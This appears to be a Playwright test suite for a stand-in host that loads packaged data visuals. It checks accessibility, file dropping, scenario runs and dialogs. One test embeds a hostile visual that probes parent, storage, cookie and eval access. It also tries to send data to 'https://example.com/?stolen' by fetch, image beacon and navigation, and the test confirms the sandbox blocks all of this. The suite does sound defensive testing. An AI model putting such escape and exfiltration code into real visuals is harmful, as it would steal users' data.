import type { Page } from "playwright-core";
import { violations } from "../support/axe";
import { faults, open, openHost, origin, standIn, useBrowser, type Watched } from "../support/browser";
import { packageOf, visualJson } from "../support/packages";

interface Report {
  readonly ok: boolean;
  readonly steps: readonly { readonly title: string; readonly ok: boolean; readonly failures: readonly string[] }[];
}
interface Problem {
  readonly kind: string;
  readonly message: string;
}

const chromium = useBrowser();

/** Drops files on the page, as a person does. */
async function drop(page: Page, files: readonly { name: string; data: Buffer }[]): Promise<void> {
  const given = files.map(({ name, data }) => ({ name, text: data.toString("latin1") }));
  await page.evaluate((all) => {
    const transfer = new DataTransfer();
    for (const { name, text } of all) {
      transfer.items.add(new File([Uint8Array.from(text, (char) => char.charCodeAt(0))], name));
    }
    for (const type of ["dragenter", "dragover", "drop"]) {
      window.dispatchEvent(new DragEvent(type, { dataTransfer: transfer, bubbles: true, cancelable: true }));
    }
  }, given);
}

async function openPage(query = "", size = { width: 1440, height: 900 }): Promise<Watched> {
  const watched = await open(chromium.browser, `/host/?${query}`, { viewport: size });
  await standIn(watched.page, "ready");
  return watched;
}

const tiny = (body = "", more: object = {}, before = ""): Buffer => packageOf(visualJson(body, more, before));

describe("the stand-in's page", () => {
  it.each<[string, string, number]>([
    ["light", "log=1", 1440],
    ["dark, several visuals", "theme=dark&instances=2&w=400&h=300&log=1", 1440],
    ["the least width", "w=700&h=500", 1024],
  ])("has no accessibility violation and no sideways scrolling: %s", async (_, query, width) => {
    const watched = await openPage(query, { width, height: 800 });
    await standIn(watched.page, "run", { title: "Short", steps: [{ resend: 4 }, { expect: { text: "not there" } }] });
    for (const id of ["more", "actions", "scenarios"]) {
      await watched.page.locator(`#${id} > summary`).click();
      expect(await violations(watched.page, { exclude: ["iframe"] })).toEqual([]);
    }
    expect(await watched.page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
    expect(await faults(watched)).toEqual([]);
  });

  it("runs a package, data and a scenario that are dropped on it", async () => {
    const watched = await openPage();
    await drop(watched.page, [{ name: "tiny.pbiviz", data: tiny() }]);
    await watched.page.frameLocator("#visual").getByText("Tiny visual").waitFor();
    expect(await watched.page.getByRole("heading", { level: 1 }).innerText()).toContain("1.2.3.4");
    const scenario = { title: "Dropped", steps: [{ resize: [300, 200] }, { expect: { text: "Tiny" } }] };
    await drop(watched.page, [
      { name: "facts.csv", data: Buffer.from("a,b\n1,2\n") },
      { name: "dropped.json", data: Buffer.from(JSON.stringify(scenario)) },
    ]);
    await watched.page.getByRole("heading", { name: "Dropped" }).waitFor();
    expect(await watched.page.locator("#report").innerText()).toContain("All passed");
    expect(await watched.page.getByRole("alert").count()).toBe(0);
    expect(await faults(watched)).toEqual([]);
  });

  it("says what is wrong with a file and keeps the visual that it had", async () => {
    const watched = await openPage("w=700&h=500");
    await drop(watched.page, [{ name: "broken.pbiviz", data: Buffer.from("no archive") }]);
    const alert = watched.page.getByRole("alert");
    await alert.waitFor();
    expect(await alert.innerText()).toContain("broken.pbiviz: This is not a zip archive");
    await watched.page.getByRole("button", { name: "Dismiss" }).click();
    expect(await alert.count()).toBe(0);
    expect(await watched.page.frameLocator("#visual").getByRole("grid").count()).toBe(1);
    expect(await faults(watched)).toEqual([]);
  });

  it("asks for a package where there is none", async () => {
    const context = await chromium.browser.newContext();
    const page = await context.newPage();
    await page.route("**/visual.pbiviz", (route) => route.fulfill({ status: 404 }));
    await page.goto(`${origin()}/host/`);
    await page.getByRole("heading", { name: "Drop a packaged visual here" }).waitFor();
    await drop(page, [{ name: "tiny.pbiviz", data: tiny() }]);
    await page.frameLocator("#visual").getByText("Tiny visual").waitFor();
    expect(await standIn<unknown[]>(page, "problems")).toEqual([]);
  });
});

describe("a scenario in the stand-in", () => {
  it.each([
    "Every kind of data",
    "Resize storm",
    "Pages and several visuals",
    "Pinned, exported, on a phone",
    "Bookmarks",
  ])("is chosen from the menu and passes: %s", async (title) => {
    const watched = await openPage();
    await watched.page.locator("#scenarios > summary").click();
    await watched.page.getByRole("button", { name: title }).click();
    await watched.page.getByRole("heading", { name: title }).waitFor({ timeout: 60_000 });
    expect(await watched.page.locator("#report .panel-summary").innerText()).toContain("All passed");
    expect(await faults(watched)).toEqual([]);
  });

  it("fails the steps that are not as expected, tells why, and can be recorded and run again", async () => {
    const host = await openHost(chromium.browser, "w=700&h=500");
    const steps = [
      { select: [0] },
      { expect: { text: "no such text", selector: "[role=grid]" } },
      { click: "#nothing" },
    ];
    const report = await standIn<Report>(host.page, "run", { title: "Failing", steps });
    expect(report.ok).toBe(false);
    expect(report.steps.map((step) => step.ok)).toEqual([true, false, false]);
    expect(report.steps[1]?.failures).toEqual(["The text “no such text” is not shown"]);
    expect(report.steps[2]?.failures).toEqual(["The visual has no element #nothing"]);
    const recorded = await standIn<{ steps: object[] }>(host.page, "scenario");
    expect(recorded.steps.map((step) => Object.keys(step)[0])).toEqual(["select", "click"]);
    const again = await standIn<Report>(host.page, "run", { ...recorded, steps: recorded.steps.slice(0, 1) });
    expect(again.ok).toBe(true);
  });

  it("notices a visual that breaks the rules", async () => {
    const watched = await openPage();
    const body = `console.log("hello"); return { update(o) { host.eventService.renderingStarted(o); element.innerHTML = "<img>"; host.eventService.renderingFinished(o); host.eventService.renderingFinished(o); } };`;
    await drop(watched.page, [{ name: "rude.pbiviz", data: tiny(body) }]);
    await watched.page.locator("#visual-name", { hasText: "Tiny" }).waitFor();
    const steps = [{ title: "an update", resend: 2 }, { expect: { foreign: false } }, { expect: { readable: true } }];
    const report = await standIn<Report>(watched.page, "run", { title: "Rude", steps });
    expect(report.steps.map((step) => step.ok)).toEqual([false, false, false]);
    const problems = await standIn<Problem[]>(watched.page, "problems");
    expect(problems.map(({ kind }) => kind)).toEqual(expect.arrayContaining(["console", "protocol"]));
  });
});

describe("a package in the stand-in", () => {
  it("has no way out: no network, storage, parent, navigation or window", async () => {
    const body = `
      const out = "https://example.com/?stolen";
      const tried = {};
      const attempt = (name, act) => { try { tried[name] = act() ? "done" : "nothing"; } catch (e) { tried[name] = "refused"; } };
      attempt("parent", () => parent.document.title);
      attempt("storage", () => localStorage.length >= 0);
      attempt("cookie", () => document.cookie === "" );
      attempt("eval", () => (0, eval)("1"));
      attempt("open", () => window.open(out));
      attempt("top", () => { top.location.href = out; return true; });
      fetch(out).catch(() => undefined);
      new Image().src = out;
      const script = document.createElement("script"); script.textContent = "globalThis.injected = 1"; element.append(script);
      tried.injected = globalThis.injected === 1 ? "done" : "refused";
      const said = JSON.stringify(tried);
      return { update(o) {
        host.eventService.renderingStarted(o);
        element.textContent = said;
        host.eventService.renderingFinished(o);
        if (o.type === 4) location.href = out;
      } };`;
    const watched = await openPage();
    const stopped: string[] = [];
    watched.page.on("requestfailed", (request) => stopped.push(request.failure()?.errorText ?? ""));
    await drop(watched.page, [{ name: "hostile.pbiviz", data: tiny(body) }]);
    await watched.page.locator("#visual-name", { hasText: "Tiny" }).waitFor();
    const { text } = await standIn<{ text: string }>(watched.page, "probe");
    const tried = Object.entries(JSON.parse(text) as Record<string, string>);
    expect(tried.filter(([, outcome]) => outcome === "done")).toEqual([]);
    expect(tried.map(([name]) => name)).toEqual(expect.arrayContaining(["parent", "storage", "cookie", "eval", "top"]));
    await standIn(watched.page, "resend", 4).catch(() => undefined);
    await watched.page.waitForFunction(() =>
      (globalThis as unknown as { standIn: { problems(): Problem[] } }).standIn
        .problems()
        .some(({ message }) => message.includes("another address")),
    );
    expect(watched.page.url().startsWith(origin())).toBe(true);
    // The browser tells of a navigation that the policy stopped before anything was sent.
    expect(stopped).toEqual(watched.foreignRequests.map(() => "csp"));
    const problems = await standIn<Problem[]>(watched.page, "problems");
    expect(problems.filter(({ kind }) => kind === "csp").length).toBeGreaterThanOrEqual(3);
  });

  it("opens its dialog over the page and gets the answer", async () => {
    const dialog = `globalThis.dialogRegistry = { ask: class { constructor(options, state) {
      options.element.textContent = "Asked " + state.what; options.host.setResult({ chosen: state.what }); } } };`;
    const body = `host.openModalDialog("ask", { title: "Choose one", actionButtons: [1, 2] }, { what: "colour" })
      .then((result) => { host.displayWarningIcon(result.actionId + " " + result.resultState.chosen, ""); });`;
    const watched = await openPage();
    await drop(watched.page, [{ name: "asking.pbiviz", data: tiny(body, {}, dialog) }]);
    await watched.page.getByRole("dialog", { name: "Choose one" }).waitFor();
    await watched.page.frameLocator("#dialog-frame").getByText("Asked colour").waitFor();
    await watched.page.getByRole("button", { name: "OK" }).click();
    await watched.page.getByText("1 colour").waitFor();
    expect(await watched.page.getByRole("dialog").count()).toBe(0);
    expect(await faults(watched)).toEqual([]);
  });
});
